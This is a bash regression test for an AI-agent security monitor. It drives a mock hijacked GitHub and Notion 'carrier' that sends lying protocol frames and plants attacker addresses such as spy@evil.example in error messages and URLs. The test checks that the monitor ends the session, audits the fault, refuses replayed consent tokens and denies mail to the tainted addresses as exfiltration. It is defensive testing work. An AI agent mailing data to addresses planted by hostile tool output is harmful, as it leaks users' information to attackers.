#!/usr/bin/env bash
#
# regress/evil-carrier.sh - a hijacked carrier can lie, but it cannot
# act (SECURITY.md, "What holds against a lying carrier").  A carrier is
# sandboxed like a worker and its answers are read only as the typed
# fields work.h names, so regress/mocks/evil-carrier plays the GitHub
# carrier taken over by a vendor's answer, with well-formed frames:
#  - a hello for another role, a second hello, a result for no call in
#    flight, two results for one call, an OK answer with a field the
#    endpoint does not have, a worker's frame: each ends the session; the
#    monitor exits 1, says why, leaves no child behind, and its last
#    audit row is the fatal error naming the carrier;
#  - an error whose message names an address, and a post whose URL names
#    one: the session goes on, the agent sees the text, and the address
#    is taint: a later mail to it is denied as untrusted, while a fresh
#    address of the same domain is only asked about (the control); and
#    the post's token was spent before the carrier was called, so the
#    same post again is refused as a replay, whether it failed or not;
#  - the Notion read carrier's liar meets the same checks.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "${top_srcdir:-$(dirname "$0")/..}/regress/test-lib.sh"

require_cmd jq sha256sum
ISSUE=$top_builddir/monitor/bouncer-issue-consent
EVIL=$top_builddir/regress/mocks/evil-carrier
DB=$BOUNCER_STATE_DIR/audit.db
sha() { printf '%s' "$1" | sha256sum | cut -d' ' -f1; }
ATOK=agent-token-0123456789
GHTOK=ghp_fake_000000000000000000000003
TARGET='github:octocat/Hello-World#1347'
[ -x "$EVIL" ] || fail "no $EVIL (make check builds it)"

mkdir -m 700 "$TESTDIR/keys" "$TESTDIR/cred"
"$ISSUE" -G -k "$TESTDIR/admin.key" 2>/dev/null || fail "-G failed"
cp "$TESTDIR/admin.key.pub" "$TESTDIR/keys/"
printf '%s\n' "$GHTOK" >"$TESTDIR/cred/github"
chmod 600 "$TESTDIR/cred/github"
start_work_mock github -s github -T "$GHTOK"
GPORT=$PORT
: >"$TESTDIR/evals.yaml"
write_script mail <<'JSON'
{"tools":[{"name":"send_email","inputSchema":{"type":"object","properties":{
   "to":{"type":"string"},"body":{"type":"string"}}}}]}
JSON
cat >"$TESTDIR/policy.yaml" <<'YAML'
send_email:
  exfiltrating: true
  sink_params: [to]
  trusted_destinations: ["*@corp.example"]
YAML
cat >"$TESTDIR/agents.yaml" <<YAML
agents:
  - id: agent
    owner: ops
    tier: T3
    tools: [post_human_authored_comment, send_email]
    eval_suite: evals.yaml
    token_sha256: $(sha "$ATOK")
YAML
write_config "$TESTDIR/bouncer.yaml" <<YAML
state_dir: $BOUNCER_STATE_DIR
policy: $TESTDIR/policy.yaml
registry: $TESTDIR/agents.yaml
consent: { keys: $TESTDIR/keys }
work:
  github:
    token_file: $TESTDIR/cred/github
    repos: [octocat/Hello-World]
    api_base: http://127.0.0.1:$GPORT
upstreams:
  mail: { command: "$SCRIPT", args: [-s, "$TESTDIR/mail.json", -l, "$TESTDIR/mail.log"] }
YAML

# evil_session MODE: a session whose GitHub carrier is the liar; the
# agent posts a consented comment, which reaches it
evil_session() {
	local dir=$TESTDIR/libexec-$1

	TEXT="Reproduced on 1.4 ($1)."

	work_libexec "$dir"
	rm -f "$dir/bouncer-carrier-github"
	printf '#!/bin/sh\nexec "%s" %s github "$@"\n' "$EVIL" "$1" \
	    >"$dir/bouncer-carrier-github"
	chmod 755 "$dir/bouncer-carrier-github"
	TOKEN=$("$ISSUE" -y -k "$TESTDIR/admin.key" -f "$TESTDIR/bouncer.yaml" \
	    -a agent -t "$TARGET" -m "$TEXT" 2>"$TESTDIR/err") ||
	    fail "bouncer-issue-consent failed: $(cat "$TESTDIR/err")"
	BOUNCER_LIBEXEC=$dir BOUNCER_AGENT_TOKEN=$ATOK \
	    start_monitor -f "$TESTDIR/bouncer.yaml"
	handshake
	post 1
}
# post ID: the consented comment, with its token
post() {
	call "$1" post_human_authored_comment "$(jq -cn --arg t "$TARGET" \
	    --arg x "$TEXT" --arg k "$TOKEN" \
	    '{target: $t, text: $x, consent_token: $k}')"
}

# the error the fatal audit row must name
fault_of() {
	case $1 in
	wrongrole) echo "hello for the wrong role or process" ;;
	hello2) echo "unexpected hello" ;;
	noflight|twice) echo "a result for no call in flight" ;;
	shape) echo "an answer of the wrong shape" ;;
	foreign) echo "unexpected message type" ;;
	esac
}

for mode in wrongrole hello2 noflight twice shape foreign; do
	evil_session $mode
	# the client may be told nothing more: the session is over
	try_send '{"jsonrpc":"2.0","id":2,"method":"ping"}' || true
	wait_monitor 15
	[ "$MON_STATUS" = 1 ] ||
	    fail "$mode: monitor exited $MON_STATUS, want 1"
	# the liar runs as "$EVIL $mode github ..." (a carrier's argv[0] is
	# its bare name, so its directory is not on its command line)
	pgrep -af "$EVIL $mode github" &&
	    fail "$mode: the lying carrier outlived the session (above)"
	tail -n 5 "$MONLOG" | grep -q "fatal: carrier github: .*$(fault_of $mode)" ||
	    fail "$mode: the monitor did not say why: $(tail -n 5 "$MONLOG")"
	last=$("$AUDIT" -D "$DB" -j -n 1)
	jq_one --arg f "$(fault_of $mode)" '.tool == "fatal" and
	    .verdict == "event" and (.reason | contains("carrier github") and
	    contains($f))' <<<"$last" ||
	    fail "$mode: the last audit row is not the fatal one: $last"
	log "$mode: session ended (exit 1)"
done

# mail MODE ID ADDRESS: the agent mails ADDRESS
mail() {
	call "$2" send_email "$(jq -cn --arg a "$3" '{to: $a, body: "the thread"}')"
}
untrusted() {
	expect_line "$(f_blocked "$1") and (.result.content[0].text |
	    contains(\"came from untrusted data\"))"
}

for mode in apierr posturl; do
	evil_session $mode
	case $mode in
	apierr)
		addr=spy@evil.example
		expect_line "$(f_result 1) and .result.isError and
		    (.result.content[0].text | contains(\"$addr\"))" ;;
	posturl)
		addr=spy2@evil.example
		expect_line "$(f_result 1) and (.result.isError | not) and
		    (.result.structuredContent.url | contains(\"$addr\"))" ;;
	esac
	mail $mode 2 "$addr"
	untrusted 2
	# the nonce was spent in the allow row, before the carrier was
	# called: a post that failed, or one that was done, needs a new token
	post 3
	expect_line "$(f_blocked 3) and (.result.content[0].text |
	    contains(\"its nonce was used before\"))"
	# the control: an address the liar never named is asked about (and
	# the ask, with no client to answer it, dies with the session)
	mail $mode 4 "fresh-$mode@evil.example"
	stop_monitor
	[ "$MON_STATUS" = 0 ] || fail "$mode: the session exited $MON_STATUS"
	"$AUDIT" -D "$DB" -j -T send_email -n 1 | jq_one --arg a \
	    "fresh-$mode@evil.example" '(.reason | contains($a)) and
	    (.reason | contains("untrusted") | not)' ||
	    fail "$mode: the control was judged as taint: $("$AUDIT" -D "$DB" -j -T send_email -n 1)"
	log "$mode: $addr is taint"
done
# The class, not GitHub alone: the same lies from the Notion read
# carrier, whose answers the same monitor code reads.
NREAD=ntn_fake_read_0000000000000001
PAGE=be633bf1-dfa0-436d-b259-571129a590e5
printf '%s\n' "$NREAD" >"$TESTDIR/cred/notion-read"
chmod 600 "$TESTDIR/cred/notion-read"
start_work_mock notion -s notion -T "$NREAD:read_content,read_comments"
NPORT=$PORT
sed 's/post_human_authored_comment/read_task/' "$TESTDIR/agents.yaml" \
    >"$TESTDIR/agents-notion.yaml"
write_config "$TESTDIR/notion.yaml" <<YAML
state_dir: $BOUNCER_STATE_DIR
policy: $TESTDIR/policy.yaml
registry: $TESTDIR/agents-notion.yaml
work:
  notion:
    read_token_file: $TESTDIR/cred/notion-read
    database_id: 668d797c-76fa-4934-9b05-ad288df2d136
    api_base: http://127.0.0.1:$NPORT
upstreams:
  mail: { command: "$SCRIPT", args: [-s, "$TESTDIR/mail.json", -l, "$TESTDIR/mail.log"] }
YAML
for mode in shape noflight apierr; do
	dir=$TESTDIR/libexec-notion-$mode
	work_libexec "$dir"
	rm -f "$dir/bouncer-carrier-notion"
	printf '#!/bin/sh\nexec "%s" %s notion-read "$@"\n' "$EVIL" "$mode" \
	    >"$dir/bouncer-carrier-notion"
	chmod 755 "$dir/bouncer-carrier-notion"
	BOUNCER_LIBEXEC=$dir BOUNCER_AGENT_TOKEN=$ATOK \
	    start_monitor -f "$TESTDIR/notion.yaml"
	handshake
	call 1 read_task "{\"task_id\":\"$PAGE\"}"
	if [ $mode = apierr ]; then
		expect_line "$(f_result 1) and .result.isError and
		    (.result.content[0].text | contains(\"spy@evil.example\"))"
		mail notion 2 spy@evil.example
		untrusted 2
		stop_monitor
		[ "$MON_STATUS" = 0 ] ||
		    fail "notion/$mode: the session exited $MON_STATUS"
	else
		try_send '{"jsonrpc":"2.0","id":2,"method":"ping"}' || true
		wait_monitor 15
		[ "$MON_STATUS" = 1 ] ||
		    fail "notion/$mode: monitor exited $MON_STATUS, want 1"
		pgrep -af "$EVIL $mode notion-read" &&
		    fail "notion/$mode: the lying carrier outlived the session"
		"$AUDIT" -D "$DB" -j -n 1 | jq_one --arg f "$(fault_of $mode)" \
		    '.tool == "fatal" and (.reason |
		    contains("carrier notion") and contains($f))' ||
		    fail "notion/$mode: the last audit row is not the fatal one"
	fi
	log "notion/$mode: as from GitHub's"
done

grep -q 'spy' "$TESTDIR/mail.log" 2>/dev/null &&
    fail "a mail to the liar's address reached the upstream: $(cat "$TESTDIR/mail.log")"
pass
